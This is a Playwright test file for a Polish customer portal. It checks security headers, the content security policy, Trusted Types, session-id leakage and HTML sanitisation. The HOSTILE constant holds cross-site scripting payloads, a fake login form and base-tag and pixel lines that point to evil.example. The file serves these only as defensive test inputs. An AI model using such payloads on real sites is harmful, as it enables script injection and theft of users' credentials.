import type { Page } from "@playwright/test";
import { expect, test } from "./support/fixtures.ts";
import { openWithStoredSession } from "./support/stored-session.ts";
import { login } from "./support/login.ts";
import { logOut, openSection } from "./support/menu.ts";
import { rewriteReply, siteContentWith } from "./support/wire-reply.ts";
import { pagePolicyOf } from "../../deploy/page/page-policy.ts";
import { headersFor } from "../../deploy/security-headers.ts";
import listed from "../../deploy/security-headers.json" with { type: "json" };

/** Security headers that apply without HTTPS. Only the sandbox lets its own app simulator frame the portal. */
const LISTED = listed
  .filter(({ deployOnly }) => deployOnly !== true)
  .map(({ name, value }) => ({
    name,
    value: value.replace("frame-ancestors 'none'", "frame-ancestors 'self'").replace("DENY", "SAMEORIGIN"),
  }));

test("each portal response has exactly the listed headers with the configured frame host", async ({
  request,
  page,
  baseURL,
}) => {
  // The provider's pages use its other host name: a frame of the portal's own origin would not be isolated.
  const frames = new URL(baseURL ?? "");
  frames.hostname = frames.hostname === "localhost" ? "127.0.0.1" : "localhost";
  const start = await (await request.get("/", { headers: { Accept: "text/html" } })).text();
  const expected = headersFor(
    LISTED,
    { provider: { serviceUrl: "/service" }, hosts: { payment: [], iframe: [frames.host] } },
    pagePolicyOf(start),
  );
  const HEADERS = Object.entries(expected).map(([name, value]) => [name.toLowerCase(), value] as const);
  const pages = ["/", "/index", "/nie-ma", "/sessionExpired", "/first-paint.js", "/favicon.svg", "/assets/nie-ma.js"];
  for (const address of pages) {
    const headers = (await request.get(address, { headers: { Accept: "text/html,*/*" } })).headers();
    for (const [name, value] of HEADERS) expect(headers[name], `${name} of ${address}`).toBe(value);
  }
  const scripts: string[] = [];
  page.on("response", (response) => {
    const headers = response.headers();
    for (const [name, value] of HEADERS) {
      if (headers[name] !== value) scripts.push(`${response.url()}: ${name} is ${headers[name] ?? "missing"}`);
    }
  });
  await openWithStoredSession(page, "m.brzezinska");
  await expect(page.getByText("Telefon Zosi")).toBeVisible();
  await page.waitForLoadState("networkidle");
  expect(scripts, "chunks, styles, fonts and responses of the provider").toEqual([]);
});

test("policy blocks inline scripts and string code, and no text becomes markup", async ({ page, pageErrors }) => {
  pageErrors.allow(/Content Security Policy|TrustedHTML|Trusted|CSP (script-src|require-trusted-types-for)/);
  await page.goto("/");
  const outcome = await page.evaluate(() => {
    const refused: string[] = [];
    const script = document.createElement("script");
    try {
      script.text = "window.hacked = true";
      document.head.append(script);
    } catch {
      refused.push("script text");
    }
    try {
      document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='window.hacked = true'>");
    } catch {
      refused.push("html text");
    }
    return { refused, hacked: "hacked" in window };
  });
  expect(outcome.hacked).toBe(false);
  expect(outcome.refused).toEqual(["script text", "html text"]);
});

test("[SEC-05] takes the names of both Trusted Types policies before another script can", async ({
  page,
  pageErrors,
}) => {
  pageErrors.allow(/Content Security Policy|CSP trusted-types/);
  await page.goto("/");
  await expect(page.getByLabel("Login", { exact: true })).toBeVisible();
  const taken = await page.evaluate(() => {
    const factory: unknown = Reflect.get(window, "trustedTypes");
    return ["ebok-html", "ebok-worker"].filter((name) => {
      try {
        const create: unknown = Reflect.get(Object(factory), "createPolicy");
        if (typeof create === "function") Reflect.apply(create, factory, [name, {}]);
        return false;
      } catch {
        return true;
      }
    });
  });
  expect(taken).toEqual(["ebok-html", "ebok-worker"]);
});

test("session id is in no address of a request or page, and in no referrer", async ({ page, context }) => {
  const addresses: string[] = [];
  context.on("request", (request) => addresses.push(request.url(), request.headers()["referer"] ?? ""));
  page.on("framenavigated", (frame) => addresses.push(frame.url()));
  await login(page, "m.brzezinska");
  const id = await page.evaluate(
    () => /"sessionId":"([^"]+)"/.exec(localStorage.getItem("ebok.session") ?? "")?.[1] ?? "",
  );
  expect(id).toMatch(/^[\da-f]{48}$/);
  for (const name of ["Faktury", "Usługi", "Oferta", "Wiadomości"]) {
    await openSection(page, name);
    await expect(page.getByRole("main").getByRole("heading", { level: 1 })).toBeFocused();
  }
  await page.goto("/invoice?pay=all");
  await expect(page.getByRole("heading", { level: 1, name: "Faktury" })).toBeVisible();
  await page.waitForLoadState("networkidle");
  await page.goto("/paymentComplete/invoice");
  await logOut(page);
  await expect(page).toHaveURL("/");
  expect(addresses.length).toBeGreaterThan(20);
  expect(addresses.filter((address) => address.includes(id))).toEqual([]);
  expect(
    (await context.cookies()).filter(({ value }) => value.includes(id)),
    "nor in a cookie",
  ).toEqual([]);
  expect(await page.evaluate(() => JSON.stringify(window.history.state) + document.referrer)).not.toContain(id);
});

test(
  "requests send no referrer, since an address may contain a token or a payment",
  { tag: "@proof" },
  async ({ page, context }) => {
    await context.addCookies([{ name: "ebok.cookies", value: "all", url: test.info().project.use.baseURL ?? "" }]);
    const asked: Promise<readonly [path: string, referrer: string | undefined]>[] = [];
    context.on("request", (request) =>
      asked.push(request.allHeaders().then((headers) => [new URL(request.url()).pathname, headers["referer"]])),
    );
    const event = page.waitForRequest((request) => request.url().includes("/analyticsEvent"));
    await openWithStoredSession(page, "m.brzezinska", "/paymentComplete/invoice?paymentId=tajna-platnosc");
    await event;
    await page.waitForLoadState("networkidle");
    const paths = await Promise.all(asked);
    expect(paths.map(([path]) => path)).toEqual(
      expect.arrayContaining(["/service", "/trackingTest", "/analyticsEvent"]),
    );
    expect(paths.filter(([, referrer]) => referrer !== undefined)).toEqual([]);
  },
);

const HOSTILE = [
  "<script>window.hacked = 1</script>",
  '<img src=x onerror="window.hacked = 1">',
  '<svg onload="window.hacked = 1"><script>window.hacked = 1</script></svg>',
  '<a href="javascript:window.hacked=1">Kliknij</a>',
  "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1>",
  '<form action="https://evil.example"><input name=haslo><button>Zaloguj się</button></form>',
  '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>',
  '<p style="position:fixed;inset:0" class="dialog" id="tresc">Zasłona</p>',
  "<style>*{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>",
  "<base href=https://evil.example/>",
  '<img src="https://evil.example/pixel.png">',
].join("");

async function expectHarmless(page: Page): Promise<void> {
  expect(await page.evaluate(() => "hacked" in window)).toBe(false);
  const promo = page.getByRole("region", { name: "Promocja" });
  expect(await promo.innerHTML()).not.toMatch(
    /script|onerror|onload|javascript:|<form|<input|<iframe|<style|<base|style=|id="tresc"/i,
  );
}

test(
  "(part of SITE-01) operator's hostile HTML is shown as text at most",
  { tag: "@proof" },
  async ({ page, pageErrors }) => {
    // The policy also blocks what the sanitiser parses, and reports the picture of another host; nothing runs.
    pageErrors.allow(/Content Security Policy|^console: CSP /);
    const elsewhere: string[] = [];
    page.on("response", (response) => {
      if (new URL(response.url()).hostname.endsWith("evil.example")) elsewhere.push(response.url());
    });
    await rewriteReply(
      page,
      "getSiteContent",
      siteContentWith("bottom_logged_in_banner", `<p>Na początku.</p>${HOSTILE}<p>Na końcu.</p>`),
    );
    await openWithStoredSession(page, "m.brzezinska");
    const promo = page.getByRole("region", { name: "Promocja" });
    await expect(promo).toContainText("Na początku.");
    await expectHarmless(page);
    await promo.getByText("Kliknij").click();
    await expectHarmless(page);
    await expect(page.getByText("Telefon Zosi")).toBeVisible();
    expect(elsewhere).toEqual([]);
  },
);

test("(part of SITE-01) HTML in plain texts stays text", async ({ page }) => {
  const text = "&lt;img src=x onerror=window.hacked=1&gt;&lt;script&gt;window.hacked=1&lt;/script&gt;";
  await rewriteReply(page, "getClientData", (xml) =>
    xml.replaceAll(/<(firstName|lastName|customName|productInfo)>[^<]*/g, (_all, name: string) => `<${name}>${text}`),
  );
  await rewriteReply(page, "getOutageMessages", (xml) =>
    xml.replaceAll(/<(title|body)>[^<]*/g, (_all, name: string) => `<${name}>${text}`),
  );
  await rewriteReply(page, "getClientMessages", (xml) => xml.replaceAll(/<title>[^<]*/g, `<title>${text}`));
  await openWithStoredSession(page, "m.brzezinska");
  await expect(page.getByRole("main").getByText("<img src=x onerror=window.hacked=1>").first()).toBeVisible();
  await openSection(page, "Usługi");
  await expect(page.getByRole("main").getByText("<img src=x onerror=window.hacked=1>").first()).toBeVisible();
  expect(await page.evaluate(() => "hacked" in window)).toBe(false);
});
